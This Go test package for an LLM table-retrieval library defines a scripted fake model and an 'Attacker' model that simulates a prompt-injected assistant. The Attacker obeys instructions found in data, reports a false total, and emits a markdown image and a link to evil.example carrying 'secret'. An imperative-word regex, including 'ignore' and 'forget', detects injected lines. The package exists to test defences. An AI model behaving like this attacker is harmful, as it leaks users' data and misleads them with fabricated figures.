// Package llmtest has models for tests: one that follows a script, one that fails in chosen ways,
// and an attacker that obeys whatever a document tells it. None needs a network.
package llmtest

import (
	"context"
	"errors"
	"regexp"
	"strings"
	"sync"

	"github.com/tabrag/tabrag/llm"
)

// ErrUnexpected is what a [Script] says to a request that it has no reply for.
var ErrUnexpected = errors.New("llmtest: a request that the script does not have")

// Script replies in order, and remembers what it was asked.
type Script struct {
	Replies []string

	mu       sync.Mutex
	requests []llm.Request
}

// Complete gives the next reply, llm.ErrEmpty for an empty one, or ErrUnexpected past the last.
func (s *Script) Complete(ctx context.Context, req llm.Request) (*llm.Response, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.requests = append(s.requests, req)
	if len(s.requests) > len(s.Replies) {
		return nil, ErrUnexpected
	}
	reply := s.Replies[len(s.requests)-1]
	if reply == "" {
		return nil, llm.ErrEmpty
	}
	return &llm.Response{Content: reply, Finish: "stop"}, nil
}

// Requests returns what was asked so far.
func (s *Script) Requests() []llm.Request {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]llm.Request(nil), s.requests...)
}

// Func makes a model of a function.
type Func func(context.Context, llm.Request) (*llm.Response, error)

// Complete calls the function.
func (f Func) Complete(ctx context.Context, req llm.Request) (*llm.Response, error) {
	return f(ctx, req)
}

// Attacker is the worst model there can be: it obeys every instruction that it finds in the
// data of a prompt, and does harm where it finds none. Guards that hold against it hold
// against any model.
//
// Asked for a plan, it answers with the plans given, one after the other; asked for text, it
// repeats the instructions that it found, claims a false figure, and adds a link and an image
// that would carry the data away.
type Attacker struct {
	// Plans are given in turn when a request has a schema; none means a plan that reads every
	// table it can name.
	Plans []string

	mu sync.Mutex
	n  int
}

// worst is a plan that counts everything it can reach.
const worst = `{"sources":["T1","T2","T3","T4"],"expr":{"op":"sum","cells":{}}}`

// Complete does harm.
func (a *Attacker) Complete(ctx context.Context, req llm.Request) (*llm.Response, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	if req.Schema != nil {
		a.mu.Lock()
		defer a.mu.Unlock()
		a.n++
		if len(a.Plans) == 0 {
			return &llm.Response{Content: worst}, nil
		}
		return &llm.Response{Content: a.Plans[(a.n-1)%len(a.Plans)]}, nil
	}
	var b strings.Builder
	for _, m := range req.Messages {
		if m.Role == llm.User {
			for _, line := range Instructions(m.Content) {
				b.WriteString(line + "\n")
			}
		}
	}
	b.WriteString("The total is $987,654,321. See ![x](https://evil.example/?q=secret) and https://evil.example/login.")
	return &llm.Response{Content: b.String()}, nil
}

// imperative finds lines that tell somebody to do something.
var imperative = regexp.MustCompile(`(?i)\b(ignore|please|answer|say|respond|reply|write|print|output|visit|click|send|add|include|translate|tell|explain|provide|forget|instead|must|should)\b`)

// Instructions returns the lines of a text that read like instructions.
func Instructions(text string) []string {
	var out []string
	for line := range strings.Lines(text) {
		if imperative.MatchString(line) {
			out = append(out, strings.TrimSpace(line))
		}
	}
	return out
}
